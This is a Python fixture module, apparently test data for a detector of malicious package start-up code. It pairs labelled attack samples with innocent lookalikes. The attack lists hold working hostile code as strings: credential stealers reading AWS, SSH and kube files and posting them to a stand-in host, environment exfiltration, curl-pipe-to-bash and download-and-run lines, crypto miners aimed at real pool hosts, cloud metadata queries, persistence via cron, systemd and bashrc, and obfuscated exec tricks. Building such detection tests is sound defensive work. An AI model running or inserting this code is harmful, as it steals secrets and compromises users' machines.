"""Start-up code as text, never run: what attacks did, and what innocent packages do."""

from __future__ import annotations

import base64


def encoded(text: str) -> str:
    """A text in base64."""
    return base64.b64encode(text.encode()).decode()


def code(*lines: str) -> str:
    """Lines of code as a text."""
    return "\n".join(lines)


THIEF = """
import os, json, urllib.request
out = {}
for place in ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config"]:
    try:
        out[place] = open(os.path.expanduser(place)).read()
    except OSError:
        pass
urllib.request.urlopen("https://x.invalid/c", data=json.dumps(out).encode())
"""
PAYLOAD = encoded(THIEF)

# litellm's .pth, ctx, ultralytics, lightning, and what else thieves and miners are known to do
ATTACKS: list[tuple[str, set[str]]] = [
    (
        code(
            "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
            f"'import base64; exec(base64.b64decode(\"{PAYLOAD}\"))'])"
        ),
        {"decodes-and-runs", "steals-credentials"},
    ),
    (
        code(
            "import os, requests, base64",
            "s = ''",
            "for k, v in os.environ.items():",
            "    s += k + v",
            "requests.get('https://x.invalid/h/' + base64.b64encode(s.encode()).decode())",
        ),
        {"sends-environment"},
    ),
    (
        code("import os, requests", "requests.post('https://x.invalid', json=dict(os.environ))"),
        {"sends-environment"},
    ),
    (
        code(
            "import os, subprocess, urllib.request",
            "p = '/tmp/runner'",
            "urllib.request.urlretrieve('https://x.invalid/a', p)",
            "os.chmod(p, 0o777)",
            "subprocess.Popen([p, '-o', 'stratum+tcp://pool.invalid:8080'])",
        ),
        {"downloads-and-runs", "mines"},
    ),
    (
        code(
            "import requests, subprocess",
            "p = '/tmp/r'",
            "r = requests.get('https://x.invalid')",
            "with open(p, 'wb') as f:",
            "    f.write(r.content)",
            "subprocess.run(f'chmod +x {p} && {p}', shell=True)",
        ),
        {"downloads-and-runs"},
    ),
    (
        code(
            "import subprocess, threading, urllib.request",
            "def _go():",
            "    urllib.request.urlretrieve('https://x.invalid/b', 'b.js')",
            "    subprocess.Popen(['node', 'b.js'])",
            "threading.Thread(target=_go).start()",
        ),
        {"downloads-and-runs"},
    ),
    (
        code("import os", "os.system('curl -s https://x.invalid/i.sh | bash')"),
        {"downloads-and-runs"},
    ),
    (
        code(
            "",
            "import os, json, urllib.request",
            "out = {}",
            'for place in ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config"]:',
            "    try:",
            "        out[place] = open(os.path.expanduser(place)).read()",
            "    except OSError:",
            "        pass",
            'urllib.request.urlopen("https://x.invalid/c", data=json.dumps(out).encode())',
            "",
        ),
        {"steals-credentials"},
    ),
    (
        code(
            "import requests, subprocess",
            "subprocess.Popen(['./xmrig', '-o', 'pool.supportxmr.com:3333'])",
        ),
        {"mines"},
    ),
    (
        code(
            "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJwrSy0qzszPAwAL8wLd')))"
        ),
        {"decodes-and-runs"},
    ),
    (
        code(
            "import base64",
            "x = base64.b64decode('aW1wb3J0IG9z')",
            "y = x.decode()",
            "e = exec",
            "e(y)",
        ),
        {"decodes-and-runs"},
    ),
    (code("d = [1, 2]", "k = 7", "s = bytes(c ^ k for c in d)", "exec(s)"), {"decodes-and-runs"}),
    (
        code(
            "import base64",
            "def unwrap(t):",
            "    return base64.b64decode(t)",
            "def go(code):",
            "    exec(code)",
            "go(unwrap('eA=='))",
        ),
        {"decodes-and-runs"},
    ),
    (
        code(
            "import urllib.request as u",
            "getattr(__builtins__, 'ex' + 'ec')(u.urlopen('h').read())",
        ),
        {"downloads-and-runs"},
    ),
    (
        code("import sys", "import base64", "__builtins__['exec'](base64.b64decode('eA=='))"),
        {"decodes-and-runs"},
    ),
    (
        code("import requests", "requests.get('http://169.254.169.254/latest/meta-data/iam/')"),
        {"asks-cloud-metadata"},
    ),
    (
        code("import urllib.request as u", "u.urlopen('http://2852039166/latest/')"),
        {"asks-cloud-metadata"},
    ),
    (
        code(
            "import os, pathlib",
            "p = pathlib.Path.home() / '.config/systemd/user/x.service'",
            "p.write_text('[Service]')",
            "os.system('systemctl --user enable x')",
        ),
        {"persists"},
    ),
    (
        code(
            "import os",
            "with open(os.path.expanduser('~/.bashrc'), 'a') as f:",
            "    f.write('x &')",
        ),
        {"persists"},
    ),
    (
        code("import requests", "exec(requests.get('https://x.invalid', verify=False).text)"),
        {"downloads-and-runs", "runs-unverified"},
    ),
    (
        code(
            "import ssl, subprocess, urllib.request as u",
            "c = ssl.create_default_context()",
            "c.check_hostname = False",
            "c.verify_mode = ssl.CERT_NONE",
            "u.urlopen('https://x', context=c)",
            "subprocess.run(['x'])",
        ),
        {"runs-unverified"},
    ),
    (code("x = 1;" + " " * 200 + "__import__('builtins').exec('print(1)')"), {"hides-code"}),
    (
        code(
            "import os, requests",
            "p = os.path.join('/root', '.' + 's' + 'sh', 'id_' + 'rsa')",
            "requests.post('https://x.invalid', data=open(p).read())",
        ),
        {"steals-credentials"},
    ),
    (
        code(
            "import os, shutil, requests",
            (
                "shutil.copy(os.environ['LOCALAPPDATA'] + '\\\\Google\\\\Chrome\\\\User "
                "Data\\\\Default\\\\Login Data', 't')"
            ),
            "requests.post('https://x.invalid', files={'f': open('t', 'rb')})",
        ),
        {"steals-credentials"},
    ),
    (
        code(
            "import requests",
            "token = open('/root/.cache/huggingface/token').read()",
            "requests.post('https://x.invalid', data=token)",
        ),
        {"steals-credentials"},
    ),
    (
        code(
            "import base64, threading",
            "threading.Thread(target=exec, args=(base64.b64decode('eA=='),)).start()",
        ),
        {"decodes-and-runs"},
    ),
    (
        code("import base64 as b", "(lambda c: exec(c))(b.b64decode('eA=='))"),
        {"decodes-and-runs"},
    ),
    (
        code("from base64 import b64decode as d", "\uff45xec(d('eA=='))"),
        {"decodes-and-runs"},
    ),
]

SCRIPTS: list[tuple[str, set[str]]] = [
    (code("node -e \"eval(Buffer.from('YWJj','base64').toString())\""), {"decodes-and-runs"}),
    (
        code("const d=JSON.stringify(process.env);const r=require('https').request({});r.write(d)"),
        {"sends-environment"},
    ),
    (
        code(
            "require('child_process').execSync('curl https://x.invalid/j -o j && "
            "chmod +x j && ./j --donate-level=1 -o pool.minexmr.com:443')"
        ),
        {"downloads-and-runs", "mines"},
    ),
    (
        code("cat ~/.npmrc ~/.aws/credentials | curl -d @- https://x.invalid"),
        {"steals-credentials"},
    ),
    (code("echo aGk= | base64 -d | sh"), {"decodes-and-runs"}),
    (code("curl -k https://x.invalid | bash"), {"downloads-and-runs"}),
    (code("(crontab -l; echo '* * * * * /tmp/x') | crontab -"), {"persists"}),
]

INNOCENT: list[str] = [
    code(
        '"""Reads ~/.aws/credentials and ~/.ssh/id_rsa, then calls requests.post."""',
        "import requests",
        "requests.post('https://x', data=open('x').read())",
    ),
    code("import requests", "requests.get('https://api.example.org').json()"),
    code(
        "import base64", "ICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')"
    ),
    code("exec(open('src/pkg/version.py').read())"),
    code("import subprocess", "subprocess.check_output(['git', 'describe'])"),
    code(
        "import os", "HERE = os.path.expanduser('~/.aws/credentials')", "text = open(HERE).read()"
    ),
    code(
        "import os, subprocess",
        "env = os.environ.copy()",
        "env['X'] = '1'",
        "subprocess.run(['make'], env=env)",
    ),
    code(
        "import os, requests",
        "proxy = os.environ.get('HTTPS_PROXY')",
        "requests.get('h', proxies={'https': proxy})",
    ),
    code(
        "import subprocess, urllib.request",
        "urllib.request.urlretrieve('https://x/src.tar.gz', 's.tar.gz')",
        "subprocess.check_call(['tar', 'xf', 's.tar.gz'])",
        "subprocess.check_call(['python', 'setup.py'])",
    ),
    code(
        "import os, urllib.request",
        "urllib.request.urlretrieve('https://x/a.tgz', 'a.tgz')",
        "os.system('tar xzf a.tgz')",
    ),
    code("POOLS = ['stratum+tcp://pool.example.org']"),
    code("METADATA = 'http://169.254.169.254/'"),
    code("import requests", "session = requests.Session()", "session.verify = False"),
    code(
        "import requests",
        "token = open('/root/.cache/huggingface/token').read()",
        "requests.post('https://huggingface.co', headers={'authorization': token})",
    ),
    code("RC = '~/.bashrc'", "print(f'add this to {RC}')"),
    code("import zlib", "DATA = zlib.decompress(open('x', 'rb').read())"),
    code(
        "def f(data):",
        "    exec(data)",
        "def g():",
        "    import base64",
        "    data = base64.b64decode('eA==')",
        "    return len('x')",
    ),
    code(
        "import marshal, types",
        "code = marshal.load(open('x.pyc', 'rb'))",
        "print(isinstance(code, types.CodeType))",
    ),
]
